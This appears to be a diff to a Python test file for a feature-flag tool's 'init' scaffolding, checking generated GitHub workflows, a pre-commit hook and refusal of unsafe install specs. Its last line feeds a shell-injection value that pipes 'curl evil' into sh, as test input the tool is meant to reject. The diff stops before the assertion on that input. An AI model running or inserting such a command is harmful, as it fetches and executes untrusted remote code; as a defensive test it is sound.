@@ -2,14 +2,22 @@
 
 from __future__ import annotations
 
-import os
 import shutil
-import stat
 import subprocess
-import sys
 from pathlib import Path
 
+from runner import REPOSITORY, __version__
+from runner.load.yamlsafe import load_text
 from tests.conftest import PROJECT, cli_env, git, run_cli
+from tests.surfaces.test_workflows import check_jsonschema, check_uses, zizmor
+
+
+def check_workflows(workflows: list[Path]) -> None:
+    """What this project's own workflows pass: zizmor's pedantic persona, GitHub's schema."""
+    out = zizmor(*workflows)
+    assert out.returncode == 0 and "No findings" in out.stdout, out.stdout + out.stderr
+    out = check_jsonschema("vendor.github-workflows", *workflows)
+    assert out.returncode == 0, out.stdout + out.stderr
 
 
 def tree(root: Path) -> dict[str, bytes]:
@@ -36,13 +44,18 @@ def test_init_scaffolds_a_repository_that_validates(tmp_path: Path) -> None:
         assert target.resolve().is_file()
     # the schemas are this version's, byte for byte
     assert files["schemas/flag.schema.json"] == (PROJECT / "schemas/flag.schema.json").read_bytes()
-    # the workflows install this version of rollout-runner and still pass the checks
-    advance = files[".github/workflows/advance.yml"].decode()
-    assert 'pip install --disable-pip-version-check "rollout-runner==' in advance
-    workflows = [str(p) for p in (root / ".github/workflows").glob("*.yml")]
-    assert subprocess.run(["zizmor", "--offline", *workflows], capture_output=True).returncode == 0
-    assert subprocess.run(["check-jsonschema", "--builtin-schema", "vendor.github-workflows",
-                           *workflows], capture_output=True).returncode == 0
+    # the workflows get rollout-runner from the released action, and pass the checks
+    from runner.onboarding.scaffold import ACTION
+
+    assert f"{REPOSITORY}@v{__version__.split('.')[0]}" == ACTION
+    workflows = sorted((root / ".github/workflows").glob("*.yml"))
+    for wf in workflows:
+        text = wf.read_text()
+        install = [s for job in load_text(text)["jobs"].values() for s in job["steps"]
+                   if s.get("name") == "Install rollout-runner"]
+        assert install and all(s["uses"] == ACTION for s in install), wf.name
+        assert "pip install" not in text and "uses: ./" not in text and "@" + "INSTALL" not in text
+    check_workflows(workflows)
 
 
 def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path) -> None:
@@ -65,44 +78,63 @@ def test_init_in_the_current_folder_and_usage_error(tmp_path: Path) -> None:
     assert out.returncode == 2 and "not a folder" in out.stderr
 
 
-def test_pre_commit_hook_of_the_scaffold_rejects_a_bad_flag(tmp_path: Path) -> None:
+def test_pre_commit_hook_of_the_scaffold_is_this_release_and_rejects_a_bad_flag(
+        tmp_path: Path) -> None:
+    """The scaffold's .pre-commit-config.yaml, byte for byte, run by pre-commit itself: git
+    resolves its GitHub URL to a clone of this checkout that has this version's tag (the tag
+    the release workflow insists on), and the hook comes from its .pre-commit-hooks.yaml."""
     root = tmp_path / "repo"
     assert run_cli(["init", str(root)], cwd=tmp_path).returncode == 0
-    # `rollout` as pip would install it: a console script on PATH
-    bindir = tmp_path / "bin"
-    bindir.mkdir()
-    shim = bindir / "rollout"
-    shim.write_text(f"#!/bin/sh\nexec {sys.executable} -m runner \"$@\"\n")
-    shim.chmod(shim.stat().st_mode | stat.S_IXUSR)
+    config = load_text((root / ".pre-commit-config.yaml").read_text())
+    (hook_repo,) = config["repos"]
+    url = f"https://github.com/{REPOSITORY}"
+    assert hook_repo == {"repo": url, "rev": f"v{__version__}",
+                         "hooks": [{"id": "rollout-validate"}]}
+    published = load_text((PROJECT / ".pre-commit-hooks.yaml").read_text())
+    assert "rollout-validate" in [h["id"] for h in published]
+
+    home = tmp_path / "rollout-runner"
+    git(tmp_path, "clone", "-q", "--no-local", str(PROJECT), str(home))
+    git(home, "tag", "-f", f"v{__version__}")
     git(root, "init", "-q", "-b", "main")
     git(root, "add", "-A")
     git(root, "commit", "-q", "-m", "scaffold")
     (root / "flags/broken.yaml").write_text(
         "key: broken\ndescription: x\nowner: y\nrisk: extreme\n")
     git(root, "add", "flags/broken.yaml")
-    env = cli_env({"PATH": f"{bindir}{os.pathsep}{os.environ['PATH']}",
-                   "PRE_COMMIT_HOME": str(tmp_path / "pre-commit-home")})
+    env = cli_env({"PRE_COMMIT_HOME": str(tmp_path / "pre-commit-home"),
+                   # the one network address of the config, answered by the local clone
+                   "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": f"url.{home}.insteadOf",
+                   "GIT_CONFIG_VALUE_0": url})
     pre_commit = shutil.which("pre-commit")
     assert pre_commit, "pre-commit is not installed"
     out = subprocess.run([pre_commit, "run", "--files", "flags/broken.yaml"], cwd=root, env=env,
-                         capture_output=True, text=True, timeout=120)
+                         capture_output=True, text=True, timeout=300)
     assert out.returncode == 1, out.stdout + out.stderr
     assert "flags/broken.yaml:4:" in out.stdout and "risk" in out.stdout
+    # a rev that is not a tag of the hook repository is refused: the check can fail
+    (root / ".pre-commit-config.yaml").write_text(
+        (root / ".pre-commit-config.yaml").read_text().replace(f"v{__version__}", "v0.0.0-none"))
+    out = subprocess.run([pre_commit, "run", "--files", "flags/broken.yaml"], cwd=root, env=env,
+                         capture_output=True, text=True, timeout=300)
+    assert out.returncode != 0 and "v0.0.0-none" in out.stdout + out.stderr
 
 
 def test_init_install_names_where_the_workflows_get_rollout_runner(tmp_path: Path) -> None:
-    # until rollout-runner is on the package index, the workflows must install it from
-    # where the organisation hosts it
+    # an organisation that hosts rollout-runner itself: the workflows pip-install it from
+    # there instead of using the released action
     spec = "git+https://github.com/acme/rollout-runner@v0.1.0"
     root = tmp_path / "hosted"
     out = run_cli(["init", "--install", spec, str(root)], cwd=tmp_path)
     assert out.returncode == 0, out.stderr
     workflows = sorted((root / ".github/workflows").glob("*.yml"))
     for wf in workflows:
-        assert f'pip install --disable-pip-version-check "{spec}"' in wf.read_text()
-        assert "rollout-runner==" not in wf.read_text()
-    assert subprocess.run(["check-jsonschema", "--builtin-schema", "vendor.github-workflows",
-                           *map(str, workflows)], capture_output=True).returncode == 0
+        text = wf.read_text()
+        assert f'pip install --disable-pip-version-check "{spec}"' in text
+        assert REPOSITORY + "@" not in text and "uses: ./" not in text
+        check_uses(text)  # setup-python comes back, pinned
+        assert "actions/setup-python@" in text
+    check_workflows(workflows)
     # anything that could break out of the shell word is refused before writing
     bad = tmp_path / "bad"
     out = run_cli(["init", "--install", 'x"; curl evil | sh; "', str(bad)], cwd=tmp_path)
